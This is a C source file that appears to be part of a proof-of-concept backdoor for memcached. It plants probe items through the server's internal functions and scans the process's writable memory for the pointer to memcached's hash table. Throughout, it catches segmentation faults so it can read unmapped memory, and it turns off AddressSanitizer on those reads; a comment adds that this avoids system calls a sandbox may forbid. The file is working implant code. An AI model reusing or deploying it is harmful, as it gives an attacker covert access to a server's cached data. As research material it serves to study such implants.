/*
 * Where the hash table is, by experiment in the proof's child: the program's
 * writable data has one word that points to an array of buckets in which items
 * that were just stored are the first, each in the bucket of its hash.
 */
#define _GNU_SOURCE
#include "locate.h"

#include "abi.h"

#include <malloc.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>

#define KEYS 24
/* Of these, how many must be found: two may share a bucket. */
#define ENOUGH 22

/* -o hashpower (memcached.c: main). */
#define HASHPOWER_MIN 12
#define HASHPOWER_MAX 32

static item *items[KEYS];
static uint32_t hvs[KEYS];

static sigjmp_buf no_memory;
static volatile sig_atomic_t reading; /* a fault jumps to no_memory */

static void on_fault(int signal_number) {
    if (reading) {
        siglongjmp(no_memory, 1);
    }
    signal(signal_number, SIG_DFL); /* it ends the child as soon as this returns */
}

/*
 * Lets power_of read where there may be no memory.  To ask the kernel for each word takes thousands
 * of system calls, and a sandbox may forbid those that read more.  SA_NODEFER: a jump out of the
 * handler would leave the signal blocked.
 */
static void catch_faults(void) {
    struct sigaction action = {.sa_handler = on_fault, .sa_flags = SA_NODEFER};
    sigemptyset(&action.sa_mask);
    sigaction(SIGSEGV, &action, NULL);
    sigaction(SIGBUS, &action, NULL);
}

/*
 * The power of an array of 2^power buckets in which the items are where they must be; 0: it is
 * none.  A sanitizer would report the reads: most candidates are not arrays.
 */
__attribute__((no_sanitize("address"))) static unsigned power_of(item *const volatile *array) {
    if (sigsetjmp(no_memory, 0) != 0) {
        reading = false;
        return 0; /* a larger array would have memory up to here, too */
    }
    reading = true;
    unsigned power = HASHPOWER_MIN, missed = KEYS;
    for (; power <= HASHPOWER_MAX; power++) {
        missed = 0;
        for (unsigned i = 0; i < KEYS && missed <= KEYS - ENOUGH; i++) {
            missed += array[hvs[i] & ((UINT64_C(1) << power) - 1)] != items[i];
        }
        if (missed <= KEYS - ENOUGH) {
            break;
        }
    }
    reading = false;
    return missed <= KEYS - ENOUGH ? power : 0;
}

static bool is_table(uintptr_t array) {
    unsigned power = power_of((item *const volatile *)array);
    if (power == 0) {
        return false;
    }
    size_t room = malloc_usable_size((void *)array) / sizeof(void *);
    return room >> power == 1; /* so that buckets_of (table.c) is right */
}

static bool store_items(struct backdoor_worker *worker) {
    for (unsigned i = 0; i < KEYS; i++) {
        char key[64];
        int nkey = snprintf(key, sizeof key, "memcached-backdoor:table:%u", i);
        items[i] = mc_item_alloc(key, (size_t)nkey, 0, 0, 2);
        if (items[i] == NULL) {
            return false;
        }
        mc_set_cas(items[i], 0);
        memcpy(mc_data(items[i]), "\r\n", 2);
        if (mc_store_item(items[i], NREAD_SET, worker, 0) != STORED) {
            return false;
        }
        hvs[i] = mc_hash(key, (size_t)nkey);
    }
    return true;
}

uintptr_t locate_table(struct backdoor_worker *worker) {
    if (mc_functions.hash == 0 || !store_items(worker)) {
        return 0;
    }
    size_t n;
    uintptr_t bias, found = 0;
    const ElfW(Phdr) *phdr = program_headers(&n, &bias);
    unsigned tables = 0;
    catch_faults();
    for (size_t i = 0; i < n; i++) {
        if (phdr[i].p_type != PT_LOAD || !(phdr[i].p_flags & PF_W)) {
            continue;
        }
        uintptr_t at = (bias + phdr[i].p_vaddr + 7) & ~(uintptr_t)7;
        uintptr_t end = bias + phdr[i].p_vaddr + phdr[i].p_memsz;
        for (; at + sizeof(uintptr_t) <= end; at += sizeof(uintptr_t)) {
            uintptr_t array = *(uintptr_t *)at;
            if (array >= 4096 && array % 8 == 0 && is_table(array)) {
                tables++;
                found = at;
            }
        }
    }
    signal(SIGSEGV, SIG_DFL);
    signal(SIGBUS, SIG_DFL);
    return tables == 1 ? found : 0;
}
